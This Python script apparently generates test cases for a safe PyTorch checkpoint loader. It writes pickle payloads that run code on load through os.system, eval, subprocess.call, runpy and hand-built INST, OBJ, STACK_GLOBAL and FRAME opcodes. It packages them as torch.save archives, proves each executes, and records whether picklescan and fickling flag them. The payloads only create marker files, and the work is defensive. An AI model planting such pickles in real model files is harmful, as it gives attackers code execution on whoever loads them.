"""Writes PyTorch checkpoints whose pickle runs code when loaded.

usage: pt_attacks.py OUT_DIR

Each attack is a pickle whose unpickling would create a marker file in
OUT_DIR (through `os.system`, `builtins.eval`, `subprocess.call`,
`runpy.run_path`, the `INST` and `OBJ` opcodes, a `STACK_GLOBAL`, a real
protocol-4 pickle with its `FRAME`, and a `FRAME` in a protocol-2 pickle),
wrapped as `torch.save` would wrap a root object: a zip archive
(`archive/data.pkl`) and the legacy format (the payload is its fourth
pickle). For every attack this script first proves it is real: Python's own
`pickle.loads` of the payload, in a child process, creates the marker (which
is then removed). And it asks the two scanners people use on PyTorch
checkpoints, `picklescan` and `fickling` (PyPI), whether they flag each file.

Prints one JSON line {"cases": [{"path", "attack", "marker", "says",
"picklescan", "fickling"}]}: `says` lists words of which the refusal must
name one (the global or the opcode).
"""

from __future__ import annotations

import json
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def binunicode(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


class Reduce:
    """An object whose pickle calls fn(*args) when loaded."""

    def __init__(self, fn: Any, args: tuple[Any, ...]) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.fn, self.args


def payloads(out: Path) -> list[tuple[str, bytes, Path, list[str]]]:
    """(attack, pickle bytes, marker, words one of which a refusal names)."""
    import builtins
    import runpy
    import subprocess as sp

    def marker(name: str) -> Path:
        return out / f"marker-{name}"

    cases = []
    m = marker("os-system")
    # A checkpoint with one bad value, as a poisoned one would be; the float
    # before it (BINFLOAT) is what PyTorch 1.13's weights-only unpickler
    # lacks, so pt_torch_oracle.py's restricted fallback meets this attack.
    poisoned = {"lr": 0.001, "weight": Reduce(os.system, (f"touch {m}",))}
    cases.append(("os.system", pickle.dumps(poisoned, protocol=2), m, ["system"]))
    m = marker("eval")
    cases.append(("builtins.eval", pickle.dumps(Reduce(builtins.eval, (f"open({str(m)!r}, 'w').close()",)), protocol=2), m, ["eval"]))
    m = marker("subprocess")
    # fix_imports=False: written as Python 3 names it (`subprocess call`),
    # not as protocol 2 spells it for Python 2 (`commands call`).
    cases.append(("subprocess.call", pickle.dumps(Reduce(sp.call, (["touch", str(m)],)), protocol=2, fix_imports=False), m, ["subprocess"]))
    m = marker("runpy")
    script = out / "runpy-payload.py"
    script.write_text(f"open({str(m)!r}, 'w').close()\n")
    cases.append(("runpy.run_path", pickle.dumps(Reduce(runpy.run_path, (str(script),)), protocol=2), m, ["runpy", "run_path"]))
    # INST: the opcode names the callable itself (protocol 0's form).
    m = marker("inst")
    cases.append(("INST opcode", b"\x80\x02(" + binunicode(f"touch {m}") + b"ios\nsystem\n.", m, ["INST", "0x69", "'i'"]))
    # OBJ: MARK, class, arguments, OBJ calls class(*arguments).
    m = marker("obj")
    cases.append(("OBJ opcode", b"\x80\x02(cos\nsystem\n" + binunicode(f"touch {m}") + b"o.", m, ["system", "OBJ", "0x6f"]))
    # STACK_GLOBAL in a pickle that says protocol 2.
    m = marker("stack-global")
    body = binunicode("os") + binunicode("system") + b"\x93" + binunicode(f"touch {m}") + b"\x85R."
    cases.append(("STACK_GLOBAL opcode", b"\x80\x02" + body, m, ["STACK_GLOBAL", "0x93"]))
    # What pickle.dumps writes at protocol 4: PROTO 4, FRAME, STACK_GLOBAL.
    m = marker("protocol4")
    cases.append(("protocol 4 (FRAME, STACK_GLOBAL)", pickle.dumps(Reduce(os.system, (f"touch {m}",)), protocol=4), m, ["protocol", "PROTO", "FRAME", "STACK_GLOBAL"]))
    # A FRAME in a protocol-2 pickle, holding a plain GLOBAL os.system.
    m = marker("frame")
    inner = b"cos\nsystem\n" + binunicode(f"touch {m}") + b"\x85R."
    cases.append(("FRAME opcode", b"\x80\x02\x95" + struct.pack("<Q", len(inner)) + inner, m, ["FRAME", "0x95"]))
    return cases


def as_zip(path: Path, payload: bytes) -> None:
    """A torch.save-shaped archive: stored entries under one folder."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", payload)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")


def as_legacy(path: Path, payload: bytes) -> None:
    head = b"".join(
        pickle.dumps(x, protocol=2)
        for x in (LEGACY_MAGIC, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})
    )
    path.write_bytes(head + payload + pickle.dumps([], protocol=2))


def prove(payload: bytes, marker: Path) -> None:
    """Python's pickle.loads of the payload creates the marker (in a child)."""
    code = "import pickle, sys; pickle.loads(sys.stdin.buffer.read())"
    subprocess.run([sys.executable, "-c", code], input=payload, capture_output=True, timeout=60, check=False)
    if not marker.exists():
        raise SystemExit(f"pt_attacks: unpickling did not create {marker}: the attack is not real")
    marker.unlink()


def picklescan_flags(path: Path) -> bool:
    from picklescan.scanner import scan_file_path

    r = scan_file_path(str(path))
    return bool(r.infected_files or r.issues_count or r.scan_err)


def fickling_flags(path: Path) -> bool:
    """fickling's own verdict on the raw pickle stream(s)."""
    import fickling

    try:
        return not fickling.is_likely_safe(str(path))
    except Exception:  # noqa: BLE001  fickling refuses to parse: flagged as unsafe
        return True


def main() -> None:
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    cases = []
    for i, (attack, payload, marker, says) in enumerate(payloads(out)):
        prove(payload, marker)
        raw = out / f"attack-{i}.pkl"
        raw.write_bytes(payload)
        for form in ("zip", "legacy"):
            p = out / f"attack-{i}-{form}.pt"
            (as_zip if form == "zip" else as_legacy)(p, payload)
            cases.append(
                {
                    "path": str(p),
                    "attack": f"{attack} ({form})",
                    "marker": str(marker),
                    "says": says,
                    "picklescan": picklescan_flags(p),
                    "fickling": fickling_flags(raw),
                }
            )
    print(json.dumps({"cases": cases}))


if __name__ == "__main__":
    main()
